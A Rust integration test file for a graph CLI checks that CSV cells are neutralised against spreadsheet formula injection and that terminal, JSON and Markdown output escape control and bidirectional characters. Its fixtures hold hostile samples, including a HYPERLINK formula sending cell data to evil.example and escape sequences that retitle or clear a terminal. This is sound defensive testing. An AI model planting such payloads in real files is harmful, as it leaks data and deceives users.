//! Injection into spreadsheets and terminals (issue 14, security items 2
//! and 3): CSV cells that a spreadsheet would run as formulas are
//! neutralised in `metrics`/`communities --format csv` and the report's
//! tables (and in `export csv` only with `--spreadsheet-safe`), and names
//! holding escape sequences, C1 controls or bidirectional overrides never
//! reach a terminal raw: not in CSV or JSON on a terminal (tested through a
//! real pseudo-terminal made by util-linux `script`), not in the "wrote
//! PATH" lines, not in `report.md`.

mod support;

use std::path::{Path, PathBuf};
use support::coopgraph;

/// (node id, name): names a spreadsheet would run as a formula, and names
/// that would act on a terminal.
const NAMES: &[(&str, &str)] = &[
    ("formula", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
    ("plus", "+SUM(A1:A9)"),
    ("minus", "-2+A3 minus"),
    ("at", "@cmd at"),
    ("tab", "\t=tab"),
    ("cr", "\r=cr"),
    ("esc", "Esc \u{1b}]0;owned\u{7} \u{1b}[2J bell"),
    ("c1", "C1 \u{9b}2J csi \u{85}nel"),
    ("bidi", "Bidi \u{202e}evil \u{2066}isolate"),
];

/// The first characters that make a spreadsheet read a cell as a formula
/// (OWASP's list).
const FORMULA_START: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// Characters that must never reach a terminal raw: controls other than the
/// line break, and bidirectional formatting characters.
fn unsafe_char(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// A dataset of one state and one agency per name of [`NAMES`], each part
/// of the state.
fn dataset(dir: &Path) -> PathBuf {
    let mut nodes = vec![serde_json::json!({
        "id": "sweden", "kind": "state", "name": "Sweden",
        "sources": [{"source": "page"}]
    })];
    let mut relations = Vec::new();
    for (id, name) in NAMES {
        nodes.push(serde_json::json!({
            "id": id, "kind": "agency", "name": name,
            "sources": [{"source": "page"}]
        }));
        relations.push(serde_json::json!({
            "kind": "part_of", "from": id, "to": "sweden", "role": name,
            "sources": [{"source": "page"}]
        }));
    }
    let data = serde_json::json!({
        "sources": [{"id": "page", "kind": "page", "title": NAMES[0].1, "lang": "en"}],
        "nodes": nodes,
        "relations": relations,
    });
    support::write(dir, "hostile.json", data.to_string())
}

/// Whether a cell is a number as a spreadsheet reads it.
fn numeric(cell: &str) -> bool {
    cell.parse::<f64>().is_ok_and(f64::is_finite)
}

/// Checks that no cell of `csv` starts a formula, that every name of
/// `names` that would is in `name_column` with a leading `'`, and returns
/// the records.
fn assert_neutralised(
    csv: &[u8],
    name_column: &str,
    names: &[(&str, &str)],
    what: &str,
) -> Vec<csv::StringRecord> {
    let mut r = csv::Reader::from_reader(csv);
    let header = r.headers().unwrap().clone();
    let col = header.iter().position(|h| h == name_column).unwrap();
    let records: Vec<_> = r.records().map(Result::unwrap).collect();
    for rec in &records {
        for cell in rec {
            assert!(
                !cell.starts_with(FORMULA_START) || numeric(cell),
                "{what}: a cell a spreadsheet runs as a formula: {cell:?}"
            );
        }
    }
    let shown: Vec<&str> = records.iter().map(|r| &r[col]).collect();
    for (_, name) in names.iter().filter(|(_, n)| n.starts_with(FORMULA_START)) {
        let safe = format!("'{name}");
        assert!(
            shown.contains(&safe.as_str()),
            "{what}: no {safe:?} in {shown:?}"
        );
    }
    records
}

fn stdout(args: &[&str], data: &Path) -> Vec<u8> {
    let out = coopgraph()
        .arg("--data")
        .arg(data)
        .args(args)
        .assert()
        .success();
    out.get_output().stdout.clone()
}

#[test]
fn metrics_and_communities_csv_neutralise_formulas_and_keep_numbers_numeric() {
    let dir = tempfile::tempdir().unwrap();
    let data = dataset(dir.path());
    let metrics = stdout(&["metrics", "--format", "csv"], &data);
    let records = assert_neutralised(&metrics, "name", NAMES, "metrics --format csv");
    // The metric values stay numbers (columns after id, name, kind).
    for rec in &records {
        for cell in rec.iter().skip(3) {
            assert!(numeric(cell), "metrics: a value is not a number: {cell:?}");
        }
    }
    let communities = stdout(&["communities", "--format", "csv"], &data);
    let records = assert_neutralised(&communities, "name", NAMES, "communities --format csv");
    assert!(records.iter().all(|r| r[3].parse::<u64>().is_ok()));
}

#[test]
fn the_report_tables_neutralise_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let data = dataset(dir.path());
    let spec = support::write(
        dir.path(),
        "spec.toml",
        "title = \"T\"\n[[table]]\nid = \"metrics\"\nmetrics = [\"degree\", \"pagerank\"]\n",
    );
    let out = dir.path().join("report");
    coopgraph()
        .arg("--quiet")
        .arg("--data")
        .arg(&data)
        .arg("report")
        .arg("--spec")
        .arg(&spec)
        .arg("-o")
        .arg(&out)
        .assert()
        .success();
    let csv = std::fs::read(out.join("tables/metrics.csv")).unwrap();
    let records = assert_neutralised(&csv, "name", NAMES, "report tables/metrics.csv");
    for rec in &records {
        for cell in rec.iter().skip(3) {
            assert!(numeric(cell), "report table: not a number: {cell:?}");
        }
    }
}

fn export_csv(data: &Path, out: &Path, extra: &[&str]) -> Vec<csv::StringRecord> {
    coopgraph()
        .arg("--quiet")
        .arg("--data")
        .arg(data)
        .args(["export", "csv", "-o"])
        .arg(out)
        .args(extra)
        .assert()
        .success();
    let mut r = csv::Reader::from_path(out.join("nodes.csv")).unwrap();
    r.records().map(Result::unwrap).collect()
}

#[test]
fn export_csv_stays_raw_and_is_neutralised_with_spreadsheet_safe() {
    let dir = tempfile::tempdir().unwrap();
    let data = dataset(dir.path());
    // Raw by default: the names exactly, for round trips.
    let raw = export_csv(&data, &dir.path().join("raw"), &[]);
    let labels: Vec<&str> = raw.iter().map(|r| &r[1]).collect();
    for (_, name) in NAMES {
        assert!(labels.contains(name), "export csv changed {name:?}");
    }
    // With --spreadsheet-safe, every file of the folder is neutralised.
    let safe = dir.path().join("safe");
    export_csv(&data, &safe, &["--spreadsheet-safe"]);
    assert_neutralised(
        &std::fs::read(safe.join("nodes.csv")).unwrap(),
        "Label",
        NAMES,
        "export csv --spreadsheet-safe",
    );
    // Relation roles and source titles are text cells too.
    for (f, column, names) in [
        ("edges.csv", "role", NAMES),
        ("sources.csv", "title", &NAMES[..1]),
    ] {
        assert_neutralised(&std::fs::read(safe.join(f)).unwrap(), column, names, f);
    }
}

#[test]
fn spreadsheet_safe_is_refused_for_formats_it_does_not_apply_to() {
    let dir = tempfile::tempdir().unwrap();
    coopgraph()
        .args(["export", "graphml", "--spreadsheet-safe", "-o"])
        .arg(dir.path().join("x.graphml"))
        .assert()
        .code(2)
        .stderr(predicates::str::contains(
            "--spreadsheet-safe is for `export csv`",
        ));
}

/// Quotes a word for `sh`.
fn sh_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

/// Whether util-linux `script` can give a command a terminal here: it may
/// be absent (or the BSD `script`, with other options), or the system may
/// have no pseudo-terminals.
fn can_make_a_terminal() -> bool {
    let probe = std::process::Command::new("script")
        .args(["-qec", "test -t 1", "/dev/null"])
        .stdin(std::process::Stdio::null())
        .output();
    if probe.is_ok_and(|p| p.status.success()) {
        return true;
    }
    support::inputs::missing(
        "a pseudo-terminal through util-linux `script`",
        "terminal tests",
    );
    false
}

/// Runs coopgraph with `args` and stdout on a pseudo-terminal (util-linux
/// `script`), returning what the terminal received with its `\r\n` line
/// ends as `\n`; `None` (and "skipped" on stderr, a failure under CI) when
/// no terminal can be made.
fn on_terminal(args: &[&str]) -> Option<String> {
    if !can_make_a_terminal() {
        return None;
    }
    let bin = env!("CARGO_BIN_EXE_coopgraph");
    let line = std::iter::once(bin)
        .chain(args.iter().copied())
        .map(sh_quote)
        .collect::<Vec<_>>()
        .join(" ");
    let out = std::process::Command::new("script")
        .args(["-qec", &line, "/dev/null"])
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert!(out.status.success(), "{line}: {out:?}");
    Some(String::from_utf8(out.stdout).unwrap().replace("\r\n", "\n"))
}

fn assert_nothing_raw(text: &str, what: &str) {
    let raw: Vec<char> = text.chars().filter(|&c| unsafe_char(c)).collect();
    assert!(
        raw.is_empty(),
        "{what} reached the terminal raw: {raw:?}\n{text}"
    );
}

#[test]
fn csv_on_a_terminal_is_escaped_as_tables_are() {
    let dir = tempfile::tempdir().unwrap();
    let data = dataset(dir.path());
    let data = data.to_str().unwrap();
    for cmd in ["metrics", "communities"] {
        let args = ["--quiet", "--data", data, cmd, "--format", "csv"];
        let Some(shown) = on_terminal(&args) else {
            return;
        };
        assert_nothing_raw(&shown, cmd);
        assert!(shown.contains("Esc \\u{1b}]0;owned\\u{7}"), "{shown}");
        assert!(shown.contains("C1 \\u{9b}2J"), "{shown}");
        assert!(shown.contains("Bidi \\u{202e}evil"), "{shown}");
    }
}

#[test]
fn json_on_a_terminal_escapes_c1_and_bidi_characters_and_keeps_the_values() {
    let dir = tempfile::tempdir().unwrap();
    let data = dataset(dir.path());
    let data_arg = data.to_str().unwrap();
    let args = ["--quiet", "--data", data_arg, "metrics", "--format", "json"];
    let Some(shown) = on_terminal(&args) else {
        return;
    };
    assert_nothing_raw(&shown, "metrics --format json");
    assert!(shown.contains("C1 \\u009b2J"), "{shown}");
    assert!(shown.contains("Bidi \\u202eevil"), "{shown}");
    // Still JSON, with the same values as when piped.
    let on_tty: serde_json::Value = serde_json::from_str(&shown).unwrap();
    let piped = stdout(&["metrics", "--format", "json"], &data);
    // Piped output is as it always was: the characters themselves.
    let piped_text = String::from_utf8(piped.clone()).unwrap();
    assert!(piped_text.contains("C1 \u{9b}2J"));
    let piped: serde_json::Value = serde_json::from_slice(&piped).unwrap();
    assert_eq!(on_tty, piped);
}

#[test]
fn csv_piped_keeps_every_character_after_the_quote() {
    let dir = tempfile::tempdir().unwrap();
    let data = dataset(dir.path());
    let out = stdout(&["metrics", "--format", "csv"], &data);
    let mut r = csv::Reader::from_reader(out.as_slice());
    let names: Vec<String> = r.records().map(|r| r.unwrap()[1].to_string()).collect();
    for (_, name) in NAMES {
        let shown = if name.starts_with(FORMULA_START) {
            format!("'{name}")
        } else {
            name.to_string()
        };
        assert!(names.contains(&shown), "{shown:?} not in {names:?}");
    }
}

#[test]
fn wrote_lines_escape_the_path() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("x\u{1b}]0;owned\u{7}\u{9b}2J.json");
    let run = coopgraph()
        .args(["generate", "--orgs", "5", "--projects", "3", "-o"])
        .arg(&out)
        .assert()
        .success();
    let err = String::from_utf8(run.get_output().stderr.clone()).unwrap();
    assert!(err.contains("wrote "), "{err}");
    assert_nothing_raw(&err, "the wrote line");
    assert!(
        err.contains("x\\u{1b}]0;owned\\u{7}\\u{9b}2J.json"),
        "{err}"
    );
}

#[test]
fn report_md_escapes_control_characters_and_keeps_printable_text() {
    let dir = tempfile::tempdir().unwrap();
    let data = dataset(dir.path());
    let spec = support::write(
        dir.path(),
        "spec.toml",
        "title = \"Title \\u001b[2J clear\"\n[[table]]\nid = \"metrics\"\nmetrics = [\"degree\"]\n",
    );
    let out = dir.path().join("report");
    coopgraph()
        .arg("--quiet")
        .arg("--data")
        .arg(&data)
        .arg("report")
        .arg("--spec")
        .arg(&spec)
        .arg("-o")
        .arg(&out)
        .assert()
        .success();
    let md = std::fs::read_to_string(out.join("report.md")).unwrap();
    assert_nothing_raw(&md, "report.md");
    assert!(md.starts_with("# Title \\u{1b}\\[2J clear\n"), "{md}");
    assert!(
        md.contains("| Esc \\u{1b}\\]0;owned\\u{7} \\u{1b}\\[2J bell |"),
        "{md}"
    );
    assert!(md.contains("| C1 \\u{9b}2J csi \\u{85}nel |"), "{md}");
    assert!(
        md.contains("| Bidi \\u{202e}evil \\u{2066}isolate |"),
        "{md}"
    );
}
